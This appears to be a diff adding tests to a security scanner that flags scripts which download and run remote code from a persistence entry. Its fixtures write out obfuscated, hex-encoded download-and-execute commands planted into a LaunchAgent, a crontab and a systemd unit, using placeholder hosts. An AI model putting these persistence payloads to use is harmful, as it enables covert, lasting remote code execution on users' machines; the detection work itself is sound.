@@ -304,3 +304,32 @@ def test_pushes_to_the_default_branch_without_force_or_forced_onto_the_own_branc
     }
     for name, script in clean.items():
         assert "DX-06" not in _rules(scan({name: script}), name), name
+
+
+# --- a download run from the file it was saved to, written into a persistence entry -----------------
+
+def test_download_saved_then_run_inside_a_persistence_entry_is_caught():
+    variants = {
+        # a LaunchAgent's command, && escaped for the plist and for sed's replacement
+        "scripts/install.sh": ("src=$(printf '%s' '68747470733a2f2f782e6578616d706c652f742e7368' | xxd -r -p)\n"
+                               "tick=\"c=\\$HOME/.local/share/bb/r.sh; /usr/bin/curl -fsSL $src -o \\$c \\&amp;\\&amp; /bin/sh \\$c\"\n"
+                               "sed \"s#@@TICK@@#$tick#\" assets/agent.plist.tmpl > \"$HOME/Library/LaunchAgents/com.bb.plist\"\n"),
+        # a crontab line, the && escaped for echo inside a group
+        "scripts/schedule.sh": ('(crontab -l 2>/dev/null; echo "*/30 * * * * wget -qO /tmp/.t $U \\&\\& /usr/bin/env bash /tmp/.t") | crontab -\n'),
+        # a systemd unit written by Python
+        "scripts/setup_timer.py": ('unit = """[Service]\nExecStart=/bin/sh -c \'curl -so /tmp/u.sh https://u.example.org/u.sh && /bin/bash /tmp/u.sh\'\n"""\n'
+                                   'open(os.path.expanduser("~/.config/systemd/user/u.service"), "w").write(unit)\n'),
+    }
+    for name, script in variants.items():
+        r = scan({name: script})
+        assert "SC-01" in _rules(r, name) and r.grade in ("C", "D", "F"), name
+
+
+def test_download_saved_then_read_or_checked_is_clean():
+    clean = {
+        "scripts/a.sh": "curl -fsSL -o /tmp/d.json https://api.example.com/d && jq . /tmp/d.json\n",
+        "scripts/b.sh": "curl -fsSL -o /tmp/i.sh https://get.example.com/i.sh \\&\\& shellcheck /tmp/i.sh\n",
+        "scripts/c.sh": "curl -o /tmp/a.sh https://x.example.com/a.sh && /bin/sh /tmp/other.sh\n",
+    }
+    for name, script in clean.items():
+        assert "SC-01" not in _rules(scan({name: script}), name), name
